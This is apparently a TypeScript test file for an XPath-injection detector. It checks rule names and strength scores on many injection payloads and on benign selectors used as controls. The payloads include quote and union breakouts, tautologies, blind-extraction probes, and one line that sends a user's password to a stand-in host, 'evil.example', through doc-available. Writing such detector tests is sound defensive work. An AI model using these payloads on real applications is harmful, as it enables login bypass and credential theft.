import { describe, expect, test } from "bun:test";
import { xpathAnalyzer } from "../../../src/detect/analyzers/xpath.ts";
import { HUGE, leaf, maxStrength, rules, spansValid, wideJunk } from "./helpers.ts";

describe("xpath analyzer", () => {
  test("functions over location paths, as blind extraction uses them", () => {
    const text = "' and string-length(name(/*[1]))=4 and '1'='1";
    const [f] = xpathAnalyzer.analyze(leaf(text));
    expect(f!.rule).toBe("xpath.path-function");
    expect(f!.strength).toBeGreaterThanOrEqual(0.8);
    expect(text.slice(f!.start, f!.end)).toBe("string-length(name(/");
    expect(rules(xpathAnalyzer, leaf("x' and count(/child::node())=3 or 'a'='b"))).toContain("xpath.path-function");
  });

  test("node functions after a breakout or compared, axes and descendant predicates", () => {
    expect(maxStrength(xpathAnalyzer, leaf("z' or local-name()='admin"))).toBeGreaterThanOrEqual(0.8);
    expect(rules(xpathAnalyzer, leaf("item[position()=2]"))).toEqual(["xpath.node-function"]);
    expect(rules(xpathAnalyzer, leaf("following-sibling::*"))).toEqual(["xpath.axis"]);
    expect(rules(xpathAnalyzer, leaf("//account[@id='7']"))).toEqual(["xpath.descendant-predicate"]);
  });

  test("a descendant predicate or an axis after a breakout (closed quote, then or/and/union) is strong", () => {
    for (const text of ["')] | //user[@name='admin", "'] | //*[1]", "x\" or //*[position()=1]", "a | //user[@role]", "' and following-sibling::password", "' and //user[username='admin']/password/text()='secret' or 'a'='",
      "' or //user[username/text()='admin' and starts-with(password/text(),'p')] or '", "' or /*[1]/*[2]/text()='x' or '", "'|//password|'", "\"|//*|\""]) {
      expect([text, maxStrength(xpathAnalyzer, leaf(text))]).toEqual([text, 0.85]);
    }
  });

  test("a predicate the value closes but never opened, then a path step: a number's breakout, with no quote", () => {
    expect(maxStrength(xpathAnalyzer, leaf("1 or 1=1]/parent::*/child::node()|//*[1"))).toBe(0.85);
    expect(maxStrength(xpathAnalyzer, leaf("2]/descendant::*"))).toBe(0.85);
    expect(rules(xpathAnalyzer, leaf("1] | //user/*"))).toContain("xpath.union-breakout");
    expect(rules(xpathAnalyzer, leaf("x]/parent::*"))).toContain("xpath.axis");
    // `parent::` and `self::` of PHP and C++ are no axes.
    for (const code of ["parent::__construct()", "return self::$data;"]) expect(xpathAnalyzer.analyze(leaf(code))).toEqual([]);
    // A selector with a stray bracket has its path before it.
    expect(maxStrength(xpathAnalyzer, leaf("//ul[@id='x']/li[1]]/text()"))).toBeLessThan(0.5);
    // A selector opens what it closes; a stray bracket in prose is followed by no path step.
    expect(maxStrength(xpathAnalyzer, leaf("//*[@id='nav']/child::li"))).toBeLessThan(0.5);
    expect(maxStrength(xpathAnalyzer, leaf("a] b/child::c"))).toBeLessThan(0.5);
  });

  test("a predicate closed and a second path joined by the union, with no predicate after it", () => {
    for (const text of ["'] | //user/* | //*['", "\"]|//password", "')] | //user/*[contains(*,'", "'] | //@* | //x['", "'] | //@password | //x['"]) expect([text, rules(xpathAnalyzer, leaf(text))]).toEqual([text, ["xpath.union-breakout"]]);
    expect(maxStrength(xpathAnalyzer, leaf("'] | //user/*"))).toBe(0.85);
    // An index and a pipe, no quote closed: no breakout.
    expect(maxStrength(xpathAnalyzer, leaf("items[1] | total"))).toBe(0);
  });

  test("XPath 2.0's fetching functions after a breakout, and its string functions over paths", () => {
    for (const text of ["x' and doc-available(concat('http://evil.example/',//user[1]/pass)) and '1'='1", "x' or doc('http://e.example/x') or '"]) expect([text, rules(xpathAnalyzer, leaf(text)).includes("xpath.fetch-function"), maxStrength(xpathAnalyzer, leaf(text))]).toEqual([text, true, 0.85]);
    expect(maxStrength(xpathAnalyzer, leaf("' or string-to-codepoints(//user[1]/pass)[1]=97 or '"))).toBe(0.9);
    for (const text of ["See the doc (page 3)", "read the doc(s) first"]) expect([text, xpathAnalyzer.analyze(leaf(text))]).toEqual([text, []]);
  });

  test("a quoted string closed, then XPath comments where blanks would be, then `or` or `and`; smileys in prose are not", () => {
    for (const text of ["'(: c :)or(: c :)'1'='1", "x'(:x:)and(:x:)'a'='a"]) expect([text, rules(xpathAnalyzer, leaf(text)), maxStrength(xpathAnalyzer, leaf(text))]).toEqual([text, ["xpath.comment-breakout"], 0.85]);
    for (const text of ["great (: see you :) or not", "it's fine (: or :) ok", 'He said "hi" (: see you :) and left', "'(: x :)order"]) expect([text, xpathAnalyzer.analyze(leaf(text))]).toEqual([text, []]);
  });

  test("a quoted string and its predicate closed, then a second predicate on the same node; a selector's own predicates and code's indexes are not", () => {
    for (const text of ["'][@role='admin", "x'][1]", "'][position()=1"]) expect([text, rules(xpathAnalyzer, leaf(text)).includes("xpath.path-breakout"), maxStrength(xpathAnalyzer, leaf(text))]).toEqual([text, true, 0.85]);
    for (const text of ["//div[@class='a'][@id='b']", "array['key'][0]", "a['b'][c=1]"]) expect([text, maxStrength(xpathAnalyzer, leaf(text)) < 0.5]).toEqual([text, true]);
  });

  test("a quoted string and its predicate closed, then the path going on from the selected node", () => {
    for (const text of ["')]/../*[contains(.,'", '"]//*', "x']/@password", "a']/user[1]"]) expect([text, rules(xpathAnalyzer, leaf(text))]).toEqual([text, ["xpath.path-breakout"]]);
    expect(maxStrength(xpathAnalyzer, leaf("')]/../*"))).toBe(0.85);
    for (const text of ['tags["a"]/b', "['x']/y", "see arr['k']/2 for ratio"]) expect([text, xpathAnalyzer.analyze(leaf(text))]).toEqual([text, []]);
  });

  test("a predicate an `or` makes true for every node is strong; a selector's `or` between real tests is not", () => {
    for (const text of ["//user[name/text()='admin' or '1'='1']", '//item[@id=5 or "a"="a"]', "/accounts/account[login='x' or 1=1]/password", "//*[x or true()]"]) {
      expect([text, rules(xpathAnalyzer, leaf(text)), maxStrength(xpathAnalyzer, leaf(text))]).toEqual([text, expect.arrayContaining(["xpath.predicate-tautology"]), 0.85]);
    }
    for (const text of ["//div[contains(@class,'price') or @id='total']", "//li[position()=1 or position()=11]", "[a] or 1=1", "tags[news or 2=2x]"]) {
      expect([text, rules(xpathAnalyzer, leaf(text)).includes("xpath.predicate-tautology")]).toEqual([text, false]);
    }
    expect(xpathAnalyzer.analyze(leaf("[" + " or x".repeat(200_000)))).toEqual([]);
  });

  test("selectors that analytics and scraping APIs send are weak without a breakout", () => {
    const selectors = ['//*[@id="nav"]/li[position()=2]/a', "//div[contains(@class,'price')]", "//a[text()='Next']", "string(//title)", "//table/tr/td[1]/following-sibling::td", "count(*)", "//book[author='Tolkien']/title", "/html/body/div[1]/p[2]", "//book[author/name='Tolkien']"];
    for (const text of selectors) expect([text, maxStrength(xpathAnalyzer, leaf(text)) < 0.5]).toEqual([text, true]);
    // A function over the document's root is what blind extraction walks, not a selector.
    expect(maxStrength(xpathAnalyzer, leaf("count(/*)"))).toBe(0.75);
  });

  test("SQL tautologies, jQuery and ordinary text are no finding", () => {
    for (const text of ["' or '1'='1", "$('#a').text()", "count(items) in stock", "https://example.com//path[1]", "std::vector", "parent::__construct()", "name (optional)"]) {
      expect([text, xpathAnalyzer.analyze(leaf(text))]).toEqual([text, []]);
    }
  });

  test("a megabyte value and binary junk: a correct answer, no throw", () => {
    expect(xpathAnalyzer.analyze(leaf(HUGE))).toEqual([]);
    expect(xpathAnalyzer.analyze(leaf(`name${" ".repeat(1 << 20)}`))).toEqual([]);
    const j = wideJunk();
    expect(spansValid(xpathAnalyzer.analyze(leaf(j)), j)).toBe(true);
  });
});
